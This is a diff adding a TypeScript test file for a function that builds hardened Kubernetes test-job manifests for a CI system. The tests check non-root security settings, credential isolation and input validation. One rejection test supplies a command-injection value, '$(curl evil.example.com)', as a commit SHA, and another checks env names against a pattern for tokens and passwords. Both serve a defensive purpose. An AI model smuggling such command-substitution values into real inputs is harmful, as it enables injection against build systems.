@@ -1,0 +1,199 @@
+import { describe, expect, it } from 'vitest';
+import type { V1Container } from '@kubernetes/client-node';
+import { ManifestError } from './errors.js';
+import type { TestJobProps } from './test-job.js';
+import { testJob } from './test-job.js';
+import { CLONE_SCRIPT, STEP_SCRIPT, TEST_JOB_CONTAINERS } from './test-job-scripts.js';
+
+const SHA = '0123456789abcdef0123456789abcdef01234567';
+const PROPS: TestJobProps = {
+  name: 'test-shop-0123456',
+  namespace: 'sluice-test',
+  labels: { 'sluice.dev/delivery': 'shop-main-0123456' },
+  image: 'node:20-alpine',
+  installCommands: ['npm ci'],
+  testCommands: ['npm test', 'npm run lint'],
+  repositoryUrl: 'https://gitlab.example.com/team/shop.git',
+  sha: SHA,
+  gitCredentialsSecret: 'shop-git-credentials',
+  cloneImage: 'registry.example.com/tools/git:2.47',
+};
+
+const job = testJob(PROPS);
+const pod = job.spec?.template.spec;
+const containers: V1Container[] = [...(pod?.initContainers ?? []), ...(pod?.containers ?? [])];
+const byName = (name: string) => containers.find((c) => c.name === name);
+
+describe('testJob shape', () => {
+  it('runs clone, then install, then test', () => {
+    expect(pod?.initContainers?.map((c) => c.name)).toEqual(['clone', 'install']);
+    expect(pod?.containers.map((c) => c.name)).toEqual(['test']);
+    expect(TEST_JOB_CONTAINERS).toEqual({ clone: 'clone', install: 'install', test: 'test' });
+  });
+
+  it('omits the install container and its failure rule when there is nothing to install', () => {
+    const j = testJob({ ...PROPS, installCommands: [] });
+    expect(j.spec?.template.spec?.initContainers?.map((c) => c.name)).toEqual(['clone']);
+    expect(JSON.stringify(j.spec?.podFailurePolicy)).not.toContain('install');
+  });
+
+  it('passes commands as arguments to a fixed script', () => {
+    expect(byName('install')?.command).toEqual(['/bin/sh', '-c', STEP_SCRIPT, 'install', 'npm ci']);
+    expect(byName('test')?.command).toEqual(['/bin/sh', '-c', STEP_SCRIPT, 'test', 'npm test', 'npm run lint']);
+    expect(byName('test')?.workingDir).toBe('/workspace/src');
+  });
+
+  it('writes a summary to the termination message and falls back to logs on error', () => {
+    for (const c of containers) {
+      expect(c.terminationMessagePath).toBe('/dev/termination-log');
+      expect(c.terminationMessagePolicy).toBe('FallbackToLogsOnError');
+    }
+  });
+
+  it('carries the delivery labels on the Job and its pods', () => {
+    expect(job.metadata?.labels).toMatchObject({ 'sluice.dev/delivery': 'shop-main-0123456', 'app.kubernetes.io/managed-by': 'sluice' });
+    expect(job.spec?.template.metadata?.labels).toEqual(job.metadata?.labels);
+  });
+});
+
+describe('testJob security invariants', () => {
+  it('gives the pod no service account token and no service links', () => {
+    expect(pod?.automountServiceAccountToken).toBe(false);
+    expect(pod?.enableServiceLinks).toBe(false);
+  });
+
+  it('runs as a non-root user with RuntimeDefault seccomp', () => {
+    expect(pod?.securityContext?.runAsNonRoot).toBe(true);
+    expect(pod?.securityContext?.runAsUser).toBeGreaterThan(0);
+    expect(pod?.securityContext?.seccompProfile).toEqual({ type: 'RuntimeDefault' });
+  });
+
+  it('hardens every container', () => {
+    expect(containers).toHaveLength(3);
+    for (const c of containers) {
+      expect(c.securityContext?.allowPrivilegeEscalation, c.name).toBe(false);
+      expect(c.securityContext?.capabilities, c.name).toEqual({ drop: ['ALL'] });
+      expect(c.securityContext?.privileged, c.name).toBe(false);
+      expect(c.securityContext?.readOnlyRootFilesystem, c.name).toBe(true);
+      expect(c.securityContext?.runAsNonRoot, c.name).toBe(true);
+      expect(c.securityContext?.seccompProfile, c.name).toEqual({ type: 'RuntimeDefault' });
+    }
+  });
+
+  it('gives every container writable emptyDirs for workspace, /tmp and HOME', () => {
+    const emptyDirs = new Set(pod?.volumes?.filter((v) => v.emptyDir).map((v) => v.name));
+    for (const c of containers) {
+      const writable = (c.volumeMounts ?? []).filter((m) => emptyDirs.has(m.name) && !m.readOnly).map((m) => m.mountPath);
+      const home = c.env?.find((e) => e.name === 'HOME')?.value;
+      expect(writable, c.name).toEqual(expect.arrayContaining(['/workspace', '/tmp', home]));
+    }
+  });
+
+  it('sets cpu and memory requests and limits on every container', () => {
+    for (const c of containers) {
+      expect(Object.keys(c.resources?.requests ?? {}).sort(), c.name).toEqual(['cpu', 'memory']);
+      expect(Object.keys(c.resources?.limits ?? {}).sort(), c.name).toEqual(['cpu', 'memory']);
+    }
+  });
+
+  it('bounds the Job in time and cleans it up', () => {
+    expect(job.spec?.activeDeadlineSeconds).toBe(1800);
+    expect(job.spec?.ttlSecondsAfterFinished).toBe(3600);
+    expect(job.spec?.backoffLimit).toBe(2);
+    expect(pod?.restartPolicy).toBe('Never');
+  });
+
+  it('fails the Job on install/test failures and retries only disruptions', () => {
+    expect(job.spec?.podFailurePolicy?.rules).toEqual([
+      { action: 'Ignore', onPodConditions: [{ status: 'True', type: 'DisruptionTarget' }] },
+      { action: 'FailJob', onExitCodes: { containerName: 'install', operator: 'NotIn', values: [0] } },
+      { action: 'FailJob', onExitCodes: { containerName: 'test', operator: 'NotIn', values: [0] } },
+    ]);
+  });
+});
+
+describe('testJob credentials', () => {
+  const secretVolumes = pod?.volumes?.filter((v) => v.secret) ?? [];
+
+  it('mounts the Git credentials Secret read-only into clone only', () => {
+    expect(secretVolumes.map((v) => v.secret?.secretName)).toEqual(['shop-git-credentials']);
+    const name = secretVolumes[0]?.name;
+    const mounts = containers.flatMap((c) => (c.volumeMounts ?? []).filter((m) => m.name === name).map((m) => ({ c: c.name, readOnly: m.readOnly })));
+    expect(mounts).toEqual([{ c: 'clone', readOnly: true }]);
+    expect(secretVolumes[0]?.secret?.defaultMode).toBe(0o440);
+  });
+
+  it('never passes a credential through env or arguments', () => {
+    for (const c of containers) {
+      expect(c.envFrom, c.name).toBeUndefined();
+      for (const e of c.env ?? []) {
+        expect(e.valueFrom, `${c.name} ${e.name}`).toBeUndefined();
+        expect(e.name).not.toMatch(/TOKEN|PASSWORD|SECRET|CREDENTIAL/i);
+      }
+      expect(JSON.stringify(c.args ?? [])).not.toMatch(/password|token/i);
+    }
+    expect(byName('clone')?.env?.find((e) => e.name === 'REPO_URL')?.value).toBe(PROPS.repositoryUrl);
+  });
+
+  it('rejects a repository URL that carries credentials, without echoing them', () => {
+    const attempt = () => testJob({ ...PROPS, repositoryUrl: 'https://oauth2:glpat-SECRET@gitlab.example.com/team/shop.git' });
+    expect(attempt).toThrow(/contains credentials; remove them and put them in the gitCredentialsSecret/);
+    expect(attempt).not.toThrow(/glpat-SECRET/);
+    expect(() => testJob({ ...PROPS, repositoryUrl: 'https://gitlab.example.com/a.git?private_token=x' })).toThrow(/query or fragment/);
+    expect(() => testJob({ ...PROPS, repositoryUrl: 'ssh://git@gitlab.example.com/a.git' })).toThrow(/use the project's http\(s\) clone URL/);
+  });
+});
+
+describe('testJob SHA handling', () => {
+  it('never interpolates the SHA into a script; it travels only as an env value', () => {
+    const other = testJob({ ...PROPS, sha: 'f'.repeat(40) });
+    const scripts = (j: typeof job) => [...(j.spec?.template.spec?.initContainers ?? []), ...(j.spec?.template.spec?.containers ?? [])].map((c) => c.command);
+    expect(scripts(other)).toEqual(scripts(job));
+    expect(JSON.stringify(job).split(SHA)).toHaveLength(2);
+    expect(byName('clone')?.env?.find((e) => e.name === 'SHA')?.value).toBe(SHA);
+    expect(CLONE_SCRIPT).toContain('"$SHA"');
+  });
+
+  it.each([
+    ['short', '0123456'],
+    ['uppercase', SHA.toUpperCase()],
+    ['injection', '$(curl evil.example.com)0123456789abcdef0123'],
+    ['branch', 'main'],
+  ])('rejects a %s SHA with a how-to-fix message', (_, sha) => {
+    expect(() => testJob({ ...PROPS, sha })).toThrow(/pass the 40 lowercase hex characters of the commit/);
+  });
+});
+
+describe('testJob input validation', () => {
+  const code = (f: () => unknown): string | undefined => {
+    try {
+      f();
+    } catch (e) {
+      return e instanceof ManifestError ? e.code : 'not a ManifestError';
+    }
+    return undefined;
+  };
+
+  it('rejects a limit below its request, saying which to change', () => {
+    expect(() => testJob({ ...PROPS, resources: { requests: { cpu: '1', memory: '4Gi' }, limits: { cpu: '2', memory: '2Gi' } } })).toThrow(
+      'testJob: memory limit "2Gi" is below the request "4Gi"; raise limits.memory or lower requests.memory',
+    );
+  });
+
+  it('rejects root, unbounded or malformed settings', () => {
+    expect(code(() => testJob({ ...PROPS, runAsUser: 0 }))).toBe('InvalidNumber');
+    expect(code(() => testJob({ ...PROPS, activeDeadlineSeconds: 0 }))).toBe('InvalidNumber');
+    expect(code(() => testJob({ ...PROPS, ttlSecondsAfterFinished: -1 }))).toBe('InvalidNumber');
+    expect(code(() => testJob({ ...PROPS, testCommands: [] }))).toBe('InvalidCommand');
+    expect(code(() => testJob({ ...PROPS, installCommands: ['  '] }))).toBe('InvalidCommand');
+    expect(code(() => testJob({ ...PROPS, name: 'Test_Job' }))).toBe('InvalidName');
+    expect(code(() => testJob({ ...PROPS, image: 'node 20' }))).toBe('InvalidImage');
+    expect(code(() => testJob({ ...PROPS, resources: { requests: { cpu: 'lots', memory: '1Gi' }, limits: { cpu: '2', memory: '2Gi' } } }))).toBe('InvalidQuantity');
+    expect(code(() => testJob({ ...PROPS, labels: { 'app.kubernetes.io/managed-by': 'me' } }))).toBe('InvalidLabel');
+  });
+
+  it('is deterministic', () => {
+    expect(testJob(PROPS)).toEqual(job);
+    expect(JSON.stringify(testJob({ ...PROPS }))).toBe(JSON.stringify(job));
+  });
+});
